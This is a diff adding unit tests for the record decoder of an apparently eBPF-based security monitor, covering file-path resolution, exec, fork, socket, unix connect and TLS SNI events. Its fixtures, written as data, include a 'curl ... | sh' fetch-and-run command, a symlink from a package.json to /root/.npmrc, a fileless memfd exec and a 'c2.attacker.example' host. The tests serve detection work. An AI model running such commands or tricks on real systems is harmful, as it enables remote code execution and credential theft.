@@ -3,7 +3,7 @@
 // payloads (a DNS query, a TLS ClientHello) and the malformed cases.
 import { describe, expect, test } from "bun:test";
 import { DecodeError, decodeFrames, decodeRecord, ipv6, parseClientHelloSni, parseDnsQuery } from "./decode.ts";
-import { FLAG, LAYOUT, OP, PAYLOAD, SOURCES } from "./opcodes.ts";
+import { FLAG, FOPS, LAYOUT, OP, PATHF, PAYLOAD, SOURCES } from "./opcodes.ts";
 
 const H = LAYOUT.fangs_hdr;
 const enc = new TextEncoder();
@@ -90,6 +90,105 @@ describe("round trips", () => {
     expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_execve"), kind: "exec", filename: "/bin/sh", argv: ["sh", "-c", "curl http://198.51.100.7/x | sh"], argv_truncated: true });
   });
 
+  // What the kernel resolved vs what was asked for (bpf/lib/path.h).
+  const paths = [
+    { name: "resolved through a symlink keeps the request", pf: PATHF.RESOLVED, req: "/app/node_modules/top/package.json", res: "/root/.npmrc", want: { path: "/root/.npmrc", requested: "/app/node_modules/top/package.json" } },
+    { name: "resolved equal to the request adds nothing", pf: PATHF.RESOLVED, req: "/etc/hosts", res: "/etc/hosts", want: { path: "/etc/hosts" } },
+    { name: "a failed relative open is joined to its base directory", pf: PATHF.BASE_ONLY, req: "../.npmrc", res: "/app/x", ret: -2, want: { path: "/app/x/../.npmrc", requested: "../.npmrc", errno: 2 } },
+    { name: "a cut request with nothing resolved is marked truncated", pf: PATHF.REQ_TRUNCATED, req: "/app/node_modules/top/package.json/./.", res: "", ret: -20, want: { path: "/app/node_modules/top/package.json/./.", path_truncated: true, errno: 20 } },
+    { name: "a cut request the kernel resolved whole is not truncated", pf: PATHF.REQ_TRUNCATED | PATHF.RESOLVED, req: "/a/./.", res: "/root/.npmrc", want: { path: "/root/.npmrc", requested: "/a/./." } },
+    { name: "a resolution that hit its bound is truncated", pf: PATHF.RESOLVED | PATHF.RES_TRUNCATED, req: "x", res: "/deep/x", want: { path: "/deep/x", requested: "x", path_truncated: true } },
+    { name: "an unreadable request", pf: PATHF.REQ_UNREADABLE, req: "", res: "", want: { path: "", unreadable: true } },
+    { name: "an unlinked file", pf: PATHF.RESOLVED | PATHF.DELETED, req: "/tmp/x", res: "/tmp/x", want: { path: "/tmp/x (deleted)", requested: "/tmp/x" } },
+  ];
+  for (const c of paths) {
+    test(`file path: ${c.name}`, () => {
+      const L = LAYOUT.fangs_file_ev;
+      const r = record(L.size, { op: OP.FILE, source: "sys_exit_openat" });
+      r.dv.setInt32(L.dirfd, -100, true);
+      r.dv.setUint32(L.path_flags, c.pf, true);
+      r.dv.setInt32(L.ret, c.ret ?? 3, true);
+      r.str(L.path, c.req);
+      r.str(L.resolved, c.res);
+      expect(decodeRecord(r.b)).toEqual({ ...common("sys_exit_openat"), kind: "file", flags: 0, access: "read", dirfd: -100, ...c.want });
+    });
+  }
+
+  test("exec: a failed attempt carries its errno; a memfd exec is fileless", () => {
+    const L = LAYOUT.fangs_exec_ev;
+    const failed = record(L.size, { op: OP.EXEC, source: "sys_exit_execve" });
+    failed.str(L.filename, "/usr/bin/curl");
+    failed.dv.setInt32(L.ret, -2, true);
+    expect(decodeRecord(failed.b)).toEqual({ ...common("sys_exit_execve"), kind: "exec", filename: "/usr/bin/curl", argv: [], errno: 2 });
+    const memfd = record(L.size, { op: OP.EXEC, source: "sched_process_exec" });
+    memfd.str(L.filename, "/dev/fd/3");
+    memfd.str(L.resolved, "memfd:payload");
+    memfd.dv.setUint32(L.path_flags, PATHF.RESOLVED | PATHF.DETACHED | PATHF.EMPTY_PATH, true);
+    expect(decodeRecord(memfd.b)).toEqual({ ...common("sched_process_exec"), kind: "exec", filename: "memfd:payload", requested: "/dev/fd/3", argv: [], fileless: true });
+  });
+
+  test("link-class operations: relative names joined to the directory, a symlink's content kept verbatim", () => {
+    const L = LAYOUT.fangs_fileop_ev;
+    const op = (fop: number, path: string, path2: string, extra: (r: ReturnType<typeof record>) => void = () => {}) => {
+      const r = record(L.size, { op: OP.FILEOP, source: "sys_exit_fileop" });
+      r.dv.setUint32(L.fop, fop, true);
+      r.dv.setInt32(L.dirfd, -100, true);
+      r.dv.setInt32(L.dirfd2, -100, true);
+      r.dv.setUint32(L.path_flags, PATHF.BASE_ONLY, true);
+      r.str(L.path, path);
+      r.str(L.path2, path2);
+      r.str(L.resolved, "/app");
+      extra(r);
+      return decodeRecord(r.b);
+    };
+    const base = { ...common("sys_exit_fileop"), kind: "file" as const, flags: 0, dirfd: -100 };
+    expect(op(FOPS.SYMLINK, "node_modules/top/package.json", "../../../root/.npmrc")).toEqual({ ...base, access: "symlink", path: "/app/node_modules/top/package.json", requested: "node_modules/top/package.json", target: "../../../root/.npmrc" });
+    expect(op(FOPS.RENAME, "b", "a")).toEqual({ ...base, access: "rename", path: "/app/b", requested: "b", target: "/app/a" });
+    expect(op(FOPS.CHMOD, "x", "", (r) => { r.dv.setUint32(L.mode, 0o100755, true); r.dv.setInt32(L.ret, -1, true); })).toEqual({ ...base, access: "chmod", path: "/app/x", requested: "x", mode: 0o755, errno: 1 });
+    expect(() => op(99, "x", "")).toThrow(DecodeError);
+  });
+
+  test("fork, exit and raw socket records", () => {
+    const F = LAYOUT.fangs_fork_ev, X = LAYOUT.fangs_exit_ev, S = LAYOUT.fangs_socket_ev;
+    const f = record(F.size, { op: OP.FORK, source: "sched_process_fork" });
+    f.dv.setUint32(F.child_pid, 4321, true);
+    expect(decodeRecord(f.b)).toEqual({ ...common("sched_process_fork"), kind: "fork", child_pid: 4321 });
+    const x = record(X.size, { op: OP.EXIT, source: "sched_process_exit" });
+    x.dv.setInt32(X.exit_code, 9, true); // killed by SIGKILL
+    expect(decodeRecord(x.b)).toEqual({ ...common("sched_process_exit"), kind: "exit", exit_code: 0, signal: 9 });
+    x.dv.setInt32(X.exit_code, 3 << 8, true);
+    expect(decodeRecord(x.b)).toEqual({ ...common("sched_process_exit"), kind: "exit", exit_code: 3 });
+    const s = record(S.size, { op: OP.SOCKET, source: "sys_enter_socket" });
+    s.dv.setUint32(S.family, 17, true);
+    s.dv.setUint32(S.type, 3, true);
+    s.dv.setUint32(S.protocol, 768, true);
+    expect(decodeRecord(s.b)).toEqual({ ...common("sys_enter_socket"), kind: "socket", family: "packet", type: "raw", protocol: 768 });
+    // each new record is size-checked like the old ones
+    expect(() => decodeRecord(f.b.subarray(0, F.size - 1))).toThrow(DecodeError);
+    expect(() => decodeRecord(s.b.subarray(0, S.size - 1))).toThrow(DecodeError);
+  });
+
+  test("a unix connect names the socket file the kernel found, the request kept", () => {
+    const L = LAYOUT.fangs_net_ev;
+    const r = record(L.size, { op: OP.CONNECT, source: "sys_exit_connect" });
+    r.dv.setUint16(L.family, 1, true);
+    r.str(L.unix_path, "docker.sock");
+    r.str(L.resolved, "/run/docker.sock");
+    r.dv.setUint32(L.path_flags, PATHF.RESOLVED, true);
+    expect(decodeRecord(r.b)).toEqual({ ...common("sys_exit_connect"), kind: "connect", family: "unix", address: "/run/docker.sock", requested: "docker.sock", port: 0, proto: "unknown" });
+    r.dv.setUint32(L.path_flags, PATHF.BASE_ONLY, true); // refused: only the directory it was looked up in
+    r.str(L.resolved, "/var/run\0\0\0\0\0\0\0\0");
+    r.dv.setInt32(L.ret, -111, true);
+    expect(decodeRecord(r.b)).toEqual({ ...common("sys_exit_connect"), kind: "connect", family: "unix", address: "/var/run/docker.sock", requested: "docker.sock", port: 0, proto: "unknown", errno: 111 });
+  });
+
+  test("a connect whose address could not be read is an unreadable destination, not nothing", () => {
+    const L = LAYOUT.fangs_net_ev;
+    const r = record(L.size, { op: OP.CONNECT, source: "sys_enter_sendto", flags: FLAG.READ_FAILED });
+    r.dv.setUint16(L.sock_type, 2, true);
+    expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_sendto"), kind: "connect", family: "inet", address: "", port: 0, proto: "udp", unreadable: true });
+  });
+
   const nets = [
     { op: OP.CONNECT, kind: "connect", family: 2, type: 1, addr: [203, 0, 113, 10], port: 443, want: { family: "inet", address: "203.0.113.10", port: 443, proto: "tcp" } },
     { op: OP.CONNECT, kind: "connect", family: 10, type: 2, addr: [0x20, 0x01, 0x0d, 0xb8, ...new Array(11).fill(0), 1], port: 53, want: { family: "inet6", address: "2001:db8::1", port: 53, proto: "udp" } },
@@ -147,10 +246,35 @@ describe("round trips", () => {
     r.dv.setUint32(L.len, hello.length, true);
     r.b.set(hello, L.data);
     expect(decodeRecord(r.b)).toEqual({ ...common("sys_enter_write"), kind: "tls", sni: "c2.attacker.example", address: "198.51.100.7", port: 443 });
+    // records are sized to the payload class (512 bytes here): a shorter record decodes,
+    // one shorter than the bytes it claims is a DecodeError
+    expect(decodeRecord(r.b.subarray(0, L.data + 512))).toEqual(decodeRecord(r.b));
+    expect(() => decodeRecord(r.b.subarray(0, L.data + hello.length - 1))).toThrow(DecodeError);
 
     const s = record(LAYOUT.fangs_sni_ev.size, { op: OP.SNI, source: "uprobe:SSL_ctrl" });
     s.str(LAYOUT.fangs_sni_ev.sni, "uprobe.attacker.example");
     expect(decodeRecord(s.b)).toEqual({ ...common("uprobe:SSL_ctrl"), kind: "tls", sni: "uprobe.attacker.example", address: "", port: 0 });
+  });
+});
+
+describe("identity cache", () => {
+  test("a pid whose exe or ancestry changes is decoded anew", () => {
+    const L = LAYOUT.fangs_file_ev;
+    const mk = (exe: string, anc: { pid: number; comm: string; exe: string }[]) => record(L.size, { op: OP.FILE, source: "sys_exit_openat", pid: 777, exe, ancestors: anc }).b;
+    const a = decodeRecord(mk("/usr/bin/node", [{ pid: 1, comm: "npm", exe: "/usr/bin/node" }]))!;
+    const b = decodeRecord(mk("/usr/bin/curl", [{ pid: 1, comm: "npm", exe: "/usr/bin/node" }]))!;
+    const c = decodeRecord(mk("/usr/bin/curl", [{ pid: 9, comm: "init", exe: "/sbin/init" }, { pid: 1, comm: "x", exe: "" }]))!;
+    const d = decodeRecord(mk("/usr/bin/curl", [{ pid: 9, comm: "init", exe: "/sbin/init" }, { pid: 1, comm: "x", exe: "" }]))!;
+    expect([a.exe, b.exe, c.exe]).toEqual(["/usr/bin/node", "/usr/bin/curl", "/usr/bin/curl"]);
+    expect(c.ancestry).toEqual([{ pid: 9, comm: "init", exe: "/sbin/init" }, { pid: 1, comm: "x", exe: "" }]);
+    expect(d.ancestry).toEqual(c.ancestry);
+    expect(Object.isFrozen(d.ancestry) && Object.isFrozen(d.ancestry[0])).toBe(true); // shared, so read-only
+  });
+
+  test("u64 fields: cgroup ids past 2^53 stay exact", () => {
+    const r = record(LAYOUT.fangs_fork_ev.size, { op: OP.FORK, source: "sched_process_fork" });
+    r.dv.setBigUint64(H.cgroup_id, 18446744073709551615n, true);
+    expect(decodeRecord(r.b)!.cgroup_id).toBe("18446744073709551615");
   });
 });
 
